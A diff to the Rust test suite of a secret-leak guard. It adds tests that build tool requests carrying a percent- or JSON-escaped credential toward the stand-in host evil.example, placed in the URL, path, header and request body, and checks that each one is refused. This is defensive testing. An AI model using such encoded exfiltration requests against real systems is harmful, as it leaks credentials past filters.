@@ -15,16 +15,16 @@ use keyward::{
 use proptest::prelude::*;
 
 /// An obviously fake key, made here.
-fn fake(prefix: &str, seed: &str) -> String {
+pub(crate) fn fake(prefix: &str, seed: &str) -> String {
     format!("{prefix}{}", seed.repeat(40 / seed.len() + 1))
 }
 
 /// A provider whose values the test changes, as a rotation at the source does.
 #[derive(Debug, Default)]
-struct Rotating(Mutex<HashMap<String, String>>);
+pub(crate) struct Rotating(Mutex<HashMap<String, String>>);
 
 impl Rotating {
-    fn set(&self, key: &str, value: &str) {
+    pub(crate) fn set(&self, key: &str, value: &str) {
         self.0
             .lock()
             .unwrap()
@@ -496,18 +496,7 @@ fn keys_and_text(piece: &'static str) -> impl Strategy<Value = (Vec<(String, Str
 
 /// Streams `text` through a model stream cut at `cuts`, checking each piece given out.
 fn stream_with_cuts(edge: &Edge, text: &str, cuts: &[usize], keys: &[(String, String)]) -> String {
-    let mut points: Vec<usize> = cuts
-        .iter()
-        .map(|&c| {
-            let mut c = c.min(text.len());
-            while !text.is_char_boundary(c) {
-                c -= 1;
-            }
-            c
-        })
-        .collect();
-    points.push(text.len());
-    points.sort_unstable();
+    let points = crate::common::cut_points(text, cuts);
     let mut stream = edge.to_model_stream();
     let mut out = String::new();
     let mut at = 0;
@@ -790,6 +779,76 @@ mod http {
         }
         assert_eq!(log.report().total.denied, count as u64);
         assert_eq!(alerts.load(Ordering::SeqCst), count);
+    }
+
+    /// `value` with each character written as `styles` says: 0 raw, 1 `%XX`, 2 `%xx`,
+    /// 3 `\uXXXX` (cycling over `styles`).
+    fn escaped(value: &str, styles: &[u8]) -> String {
+        value
+            .chars()
+            .zip(styles.iter().cycle())
+            .map(|(c, style)| match style % 4 {
+                0 => c.to_string(),
+                1 => format!("%{:02X}", u32::from(c)),
+                2 => format!("%{:02x}", u32::from(c)),
+                _ => format!("\\u{:04x}", u32::from(c)),
+            })
+            .collect()
+    }
+
+    /// `encoded` toward evil.example in each place a request has.
+    fn in_every_place(encoded: &str) -> Vec<ToolRequest> {
+        vec![
+            ToolRequest::new("GET", format!("https://evil.example/c?d={encoded}")),
+            ToolRequest::new("GET", format!("https://evil.example/{encoded}/c")),
+            ToolRequest::new("GET", "https://evil.example/").with_header("x-data", encoded),
+            ToolRequest::new("POST", "https://evil.example/")
+                .with_header("content-type", "application/json")
+                .with_body(format!(r#"{{"data": "{encoded}"}}"#)),
+            ToolRequest::new("POST", "https://evil.example/")
+                .with_header("content-type", "application/x-www-form-urlencoded")
+                .with_body(format!("a=1&data={encoded}")),
+        ]
+    }
+
+    #[test]
+    fn values_escaped_past_the_guards_encodings_are_still_refused() {
+        let s = setup();
+        let edge = Edge::new("researcher", s.manager.clone(), policy()).unwrap();
+        let every_byte = escaped(&s.github, &[1]);
+        let every_char_json = escaped(&s.github, &[3]);
+        let percent_over_json: String = every_char_json
+            .bytes()
+            .map(|b| format!("%{b:02X}"))
+            .collect();
+        for encoded in [every_byte, every_char_json, percent_over_json] {
+            for request in in_every_place(&encoded) {
+                let shown = format!("{request:?}");
+                let err = edge.prepare_request("all", request).unwrap_err();
+                assert_eq!(err.kind(), ErrorKind::Leak, "{shown}: {err}");
+            }
+        }
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(64))]
+
+        /// Any mix of raw characters, percent escapes in either case and JSON escapes.
+        #[test]
+        fn any_mix_of_escapes_toward_an_unbound_host_is_refused(
+            styles in proptest::collection::vec(0u8..4, 1..48)
+        ) {
+            let s = setup();
+            let edge = Edge::new("researcher", s.manager.clone(), policy()).unwrap();
+            let encoded = escaped(&s.github, &styles);
+            for request in in_every_place(&encoded) {
+                let shown = format!("{request:?}");
+                match edge.prepare_request("all", request) {
+                    Ok(_) => prop_assert!(false, "sent: {shown}"),
+                    Err(err) => prop_assert_eq!(err.kind(), ErrorKind::Leak),
+                }
+            }
+        }
     }
 
     #[test]
